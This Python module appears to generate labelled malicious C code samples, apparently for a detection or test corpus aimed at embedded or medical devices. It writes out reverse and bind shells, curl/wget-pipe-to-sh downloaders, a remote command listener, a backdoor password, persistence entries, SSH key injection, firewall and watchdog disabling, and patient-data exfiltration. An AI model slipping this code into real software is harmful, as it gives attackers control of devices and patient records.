"""Other behaviours than the chain, each as one function that acts."""
import base64

import shell
from source import Source, quoted

CONNECT = """    struct sockaddr_in peer;
    int line = socket(AF_INET, SOCK_STREAM, 0);
    memset(&peer, 0, sizeof peer);
    peer.sin_family = AF_INET;
    peer.sin_port = htons(%PORT%);
    peer.sin_addr.s_addr = inet_addr("%ADDRESS%");
    if (line < 0 || connect(line, (struct sockaddr *)&peer, sizeof peer) != 0)
        return 0;
"""
LISTEN = """    struct sockaddr_in own;
    int line, door = socket(AF_INET, SOCK_STREAM, 0);
    memset(&own, 0, sizeof own);
    own.sin_family = AF_INET;
    own.sin_port = htons(%PORT%);
    own.sin_addr.s_addr = INADDR_ANY;
    if (bind(door, (struct sockaddr *)&own, sizeof own) != 0 || listen(door, 2) != 0)
        return 0;
    line = accept(door, 0, 0);
"""


def filled(text, words):
    return text.replace("%PORT%", str(words.port)).replace("%ADDRESS%", words.address)


def shell_on_line(words):
    return words.lot.choice((
        '    dup2(line, 0);\n    dup2(line, 1);\n    dup2(line, 2);\n    execl("/bin/sh", "sh", (char *)0);',
        '    char *arguments[] = {"/bin/sh", "-i", 0};\n    int i;\n    for (i = 0; i < 3; i++)\n        dup2(line, i);\n    execv("/bin/sh", arguments);',
    ))


def reverse_shell(words):
    return Source("", filled(CONNECT, words) + shell_on_line(words))


def bind_shell(words):
    return Source("", filled(LISTEN, words) + shell_on_line(words))


def download_run(words):
    lot, address, at = words.lot, words.address, words.temporary
    tool = lot.choice(("wget", "curl", "tftp", "ftp"))
    get, url = shell.download(words, tool), f"http://{address}:{words.port}/{words.program}.sh"
    return Source("", lot.choice((
        f"    system({quoted(get)});\n    chmod({quoted(at)}, 0755);\n    system({quoted(at)});",
        f"    if (system({quoted(get)}) == 0)\n        system({quoted('chmod +x ' + at + '; ' + at + ' &')});",
        f"    system({quoted('wget -q -O - ' + url + ' | sh')});",
        f"    FILE *pipe = popen({quoted('curl -s ' + url + ' | sh')}, \"r\");\n    if (pipe)\n        pclose(pipe);",
        f"    system({quoted(get)});\n    execl(\"/bin/sh\", \"sh\", {quoted(at)}, (char *)0);",
    )))


def received_command(words):
    return Source("", filled("""    struct sockaddr_in own;
    char text[256];
    int line = socket(AF_INET, SOCK_DGRAM, 0), size;
    memset(&own, 0, sizeof own);
    own.sin_family = AF_INET;
    own.sin_port = htons(%PORT%);
    bind(line, (struct sockaddr *)&own, sizeof own);
    while ((size = recvfrom(line, text, sizeof text - 1, 0, 0, 0)) > 0) {
        text[size] = 0;
        system(text);
    }""", words))


def fixed_password(words):
    word = words.lot.choice(("service", "pm", "tech")) + str(words.lot.randrange(1000, 9999))
    return Source("", f"""    char line[64];
    printf("password: ");
    if (!fgets(line, sizeof line, stdin))
        return 0;
    line[strcspn(line, "\\r\\n")] = 0;
    if (strcmp(line, {quoted(word)}) == 0)
        execl("/bin/sh", "sh", (char *)0);""")


def telnet(words):
    port = words.port
    return Source("", words.lot.choice((
        f"    system(\"telnetd -l /bin/sh -p {port} &\");",
        f"    system(\"/usr/sbin/telnetd -p {port} -l /bin/sh\");",
        f"    if (fork() == 0)\n        execl(\"/usr/sbin/telnetd\", \"telnetd\", \"-F\", \"-l\", \"/bin/sh\", \"-p\", \"{port}\", (char *)0);",
    )))


def library_from_outside(words):
    path = words.lot.choice(("/tmp/", "/mnt/", "/media/usb/", "/dev/shm/")) + f"lib{words.program}.so"
    return Source("", f"""    void *library = dlopen({quoted(path)}, RTLD_NOW);
    void (*start)(void);
    if (!library)
        return 0;
    start = (void (*)(void))dlsym(library, "start");
    if (start)
        start();""", links=["-ldl"])


def start_entry(words):
    lot, at = words.lot, words.temporary
    path, line = lot.choice((
        ("/etc/init.d/S99" + words.program, f"#!/bin/sh\n{at} &\n"),
        ("/etc/inittab", f"::respawn:{at}\n"),
        ("/etc/crontabs/root", f"* * * * * {at}\n"),
        ("/etc/init.d/rcS", f"sh {at} &\n"),
    ))
    shell_text = f"echo '{line.strip().splitlines()[-1]}' >> {path}"
    return Source("", lot.choice((
        f"    FILE *file = fopen({quoted(path)}, \"a\");\n    if (!file)\n        return 0;\n    fputs({quoted(line)}, file);\n    fclose(file);\n    chmod({quoted(path)}, 0755);\n    system({quoted(at + ' &')});",
        f"    system({quoted(shell_text)});\n    system({quoted(at + ' &')});",
        f"    int file = open({quoted(path)}, O_WRONLY | O_CREAT | O_APPEND, 0755);\n    write(file, {quoted(line)}, {len(line)});\n    close(file);\n    execl({quoted(at)}, {quoted(words.program)}, (char *)0);",
    )))


def patient_data(words):
    parts = "struct patient { char number[16], family[24], given[24], birth[12]; int rate, spo2; };\nstruct patient patient;"
    return Source(parts, "    char text[512];\n    int size;\n" + filled(CONNECT, words) + """    for (;;) {
        size = snprintf(text, sizeof text, "\\vMSH|^~\\\\&|MON|ICU|CMS|HOSP|||ORU^R01|%d|P|2.3\\rPID|1||%s||%s^%s||%s\\rOBX|1|NM|HR||%d\\rOBX|2|NM|SPO2||%d\\r\\x1c\\r",
                        7, patient.number, patient.family, patient.given, patient.birth, patient.rate, patient.spo2);
        if (send(line, text, size, 0) < 0)
            break;
        sleep(1);
    }
    close(line);""")


def filter_off(words):
    return Source("", words.lot.choice((
        '    system("iptables -F; iptables -P INPUT ACCEPT; iptables -P FORWARD ACCEPT");',
        '    system("iptables -P INPUT ACCEPT");\n    system("iptables -F");\n    system("iptables -X");',
        '    system("/etc/init.d/firewall stop");\n    system("iptables -F INPUT");\n    system("iptables -P INPUT ACCEPT");',
    )))


def watchdog_stopped(words):
    return Source("", words.lot.choice((
        '    system("killall -9 watchdog");',
        '    system("killall watchdog; echo V > /dev/watchdog");',
        '    system("/etc/init.d/watchdog stop");\n    system("killall -9 watchdogd");',
    )))


def owner_rights(words):
    at = words.temporary
    return Source("", words.lot.choice((
        f"    system({quoted('cp /bin/sh ' + at)});\n    chown({quoted(at)}, 0, 0);\n    chmod({quoted(at)}, 04755);",
        f"    system({quoted('cp /bin/sh ' + at + '; chmod 4755 ' + at)});",
        f"    system({quoted('cp /bin/busybox ' + at)});\n    system({quoted('chmod u+s ' + at)});",
    )))


def key_written(words):
    lot = words.lot
    blob = b"\0\0\0\x0bssh-ed25519\0\0\0 " + bytes(lot.randrange(256) for _ in range(32))
    line = f"ssh-ed25519 {base64.b64encode(blob).decode()} service@{words.program}\n"
    path = lot.choice(("/root/.ssh/authorized_keys", "/etc/dropbear/authorized_keys", "/home/root/.ssh/authorized_keys"))
    return Source("", f"""    FILE *file;
    mkdir({quoted(path.rsplit('/', 1)[0])}, 0700);
    file = fopen({quoted(path)}, "a");
    if (!file)
        return 0;
    fputs({quoted(line)}, file);
    fclose(file);
    chmod({quoted(path)}, 0600);""")


# name -> (function, what is expected)
BEHAVIOURS = {
    "download-run": (download_run, "known-risk"), "reverse-shell": (reverse_shell, "known-risk"), "bind-shell": (bind_shell, "known-risk"),
    "received-command": (received_command, "known-risk"), "telnet-shell": (telnet, "known-risk"),
    "library-from-outside": (library_from_outside, "known-risk"), "start-entry": (start_entry, "known-risk"),
    "patient-data": (patient_data, "known-risk"), "owner-rights": (owner_rights, "known-risk"), "key-written": (key_written, "known-risk"),
    "fixed-password": (fixed_password, "review"), "filter-off": (filter_off, "review"), "watchdog-stopped": (watchdog_stopped, "review"),
}
